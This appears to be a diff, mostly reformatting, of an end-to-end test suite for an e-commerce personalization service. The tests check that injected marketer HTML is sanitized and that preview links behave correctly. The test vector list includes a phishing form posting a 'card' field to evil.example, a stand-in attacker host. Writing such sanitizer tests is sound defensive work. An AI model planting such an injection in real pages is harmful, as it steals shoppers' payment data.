@@ -15,7 +15,10 @@ let shop: { url: string; stop: () => Promise<void> }
 
 beforeAll(async () => {
   worker = await startLocalWorker({ port: await freePort(), quiet: true })
-  ;[shop, browser] = await Promise.all([startShop({ port: 0, workerUrl: worker.url }), launchChromium()])
+  ;[shop, browser] = await Promise.all([
+    startShop({ port: 0, workerUrl: worker.url }),
+    launchChromium(),
+  ])
 })
 afterAll(async () => {
   await browser?.close()
@@ -43,34 +46,54 @@ const VECTORS = [
   '<form action="https://evil.example"><input name="card"><button>Pay now</button></form>',
 ].join('')
 
-const slotHtml = (page: Page) => page.evaluate(() => document.querySelector('[data-stammis-slot=hero]')!.innerHTML)
+const slotHtml = (page: Page) =>
+  page.evaluate(() => document.querySelector('[data-stammis-slot=hero]')!.innerHTML)
 
 describe('marketer HTML in the shop', () => {
   it('shows the harmless part and runs none of the script vectors', async () => {
     const response = await admin('PUT', '/v1/admin/rules', {
-      rules: [{ id: 'hero-html', slot: 'hero', priority: 100, status: 'live', content: { type: 'html', value: VECTORS } }],
+      rules: [
+        {
+          id: 'hero-html',
+          slot: 'hero',
+          priority: 100,
+          status: 'live',
+          content: { type: 'html', value: VECTORS },
+        },
+      ],
     })
     expect(response.status).toBe(200)
-    expect(((await response.json()) as { sanitizedRuleIds: string[] }).sanitizedRuleIds).toEqual(['hero-html'])
+    expect(((await response.json()) as { sanitizedRuleIds: string[] }).sanitizedRuleIds).toEqual([
+      'hero-html',
+    ])
 
     const ctx = await browser.newContext()
     const page = await ctx.newPage()
     const errors: string[] = []
     page.on('pageerror', (e) => errors.push(String(e)))
     await page.goto(shop.url + '/')
-    await page.waitForFunction(() => document.querySelector('[data-stammis-slot=hero] strong')?.textContent === 'Welcome back')
+    await page.waitForFunction(
+      () =>
+        document.querySelector('[data-stammis-slot=hero] strong')?.textContent === 'Welcome back',
+    )
     // Images have had their chance to fail, frames to load.
     await page.waitForTimeout(500)
     await page.click('[data-stammis-slot=hero] a').catch(() => {})
     await page.waitForTimeout(200)
-    expect(await page.evaluate(() => (window as unknown as { pwned?: string }).pwned)).toBeUndefined()
+    expect(
+      await page.evaluate(() => (window as unknown as { pwned?: string }).pwned),
+    ).toBeUndefined()
     const dom = await page.evaluate(() => {
       const slot = document.querySelector('[data-stammis-slot=hero]')!
       const elements = [...slot.querySelectorAll('*')]
       return {
         tags: [...new Set(elements.map((element) => element.tagName.toLowerCase()))].sort(),
-        handlers: elements.flatMap((element) => element.getAttributeNames().filter((name) => name.startsWith('on') || name === 'id')),
-        hrefs: elements.map((element) => element.getAttribute('href')).filter((href) => href !== null),
+        handlers: elements.flatMap((element) =>
+          element.getAttributeNames().filter((name) => name.startsWith('on') || name === 'id'),
+        ),
+        hrefs: elements
+          .map((element) => element.getAttribute('href'))
+          .filter((href) => href !== null),
       }
     })
     // Only harmless elements are left: no script, iframe, svg, form, input, button, noscript.
@@ -85,7 +108,10 @@ describe('marketer HTML in the shop', () => {
 
 describe('preview links in the shop', () => {
   const visitsOf = async (page: Page) => {
-    const ids = await page.evaluate(() => ({ visitorId: localStorage.getItem('stm_v'), visitId: 'probe' }))
+    const ids = await page.evaluate(() => ({
+      visitorId: localStorage.getItem('stm_v'),
+      visitId: 'probe',
+    }))
     if (!ids.visitorId) return null
     const r = await fetch(worker.url + '/v1/decide', {
       method: 'POST',
@@ -98,8 +124,20 @@ describe('preview links in the shop', () => {
   it('a junk token changes nothing: real content, tracked', async () => {
     const publish = await admin('PUT', '/v1/admin/rules', {
       rules: [
-        { id: 'hero-new', slot: 'hero', status: 'live', when: { segments: ['shopper'] }, content: { type: 'text', value: 'Hello, new visitor' } },
-        { id: 'hero-repeat', slot: 'hero', status: 'live', when: { segments: ['repeat'] }, content: { type: 'text', value: 'Hello, regular' } },
+        {
+          id: 'hero-new',
+          slot: 'hero',
+          status: 'live',
+          when: { segments: ['shopper'] },
+          content: { type: 'text', value: 'Hello, new visitor' },
+        },
+        {
+          id: 'hero-repeat',
+          slot: 'hero',
+          status: 'live',
+          when: { segments: ['repeat'] },
+          content: { type: 'text', value: 'Hello, regular' },
+        },
       ],
     })
     expect(publish.status).toBe(200)
@@ -108,7 +146,10 @@ describe('preview links in the shop', () => {
     const events = page.waitForResponse((r) => r.url().endsWith('/v1/events') && r.status() === 200)
     await page.goto(shop.url + '/?stammis_preview=junk.token')
     await events
-    await page.waitForFunction(() => document.querySelector('[data-stammis-slot=hero]')?.textContent === 'Hello, new visitor')
+    await page.waitForFunction(
+      () =>
+        document.querySelector('[data-stammis-slot=hero]')?.textContent === 'Hello, new visitor',
+    )
     expect(await page.evaluate(() => sessionStorage.getItem('stm_p'))).toBeNull()
     // The visit was recorded (the probe is a visit that starts now: 1 recorded + 1).
     expect(await visitsOf(page)).toBe(2)
@@ -116,7 +157,10 @@ describe('preview links in the shop', () => {
   })
 
   it('a real link previews as its segment and records nothing', async () => {
-    const link = await admin('POST', '/v1/admin/preview-links', { segment: 'repeat', url: shop.url + '/' })
+    const link = await admin('POST', '/v1/admin/preview-links', {
+      segment: 'repeat',
+      url: shop.url + '/',
+    })
     expect(link.status).toBe(200)
     const { url } = (await link.json()) as { url: string }
     const ctx = await browser.newContext()
@@ -124,11 +168,15 @@ describe('preview links in the shop', () => {
     let eventCalls = 0
     page.on('request', (request) => request.url().endsWith('/v1/events') && eventCalls++)
     await page.goto(url)
-    await page.waitForFunction(() => document.querySelector('[data-stammis-slot=hero]')?.textContent === 'Hello, regular')
+    await page.waitForFunction(
+      () => document.querySelector('[data-stammis-slot=hero]')?.textContent === 'Hello, regular',
+    )
     await page.goto(shop.url + '/product.html?sku=mug')
     await page.waitForTimeout(500)
     expect(eventCalls).toBe(0)
-    expect(await page.evaluate(() => [localStorage.getItem('stm_v'), localStorage.getItem('stm_q')])).toEqual([null, null])
+    expect(
+      await page.evaluate(() => [localStorage.getItem('stm_v'), localStorage.getItem('stm_q')]),
+    ).toEqual([null, null])
     await ctx.close()
   })
 })
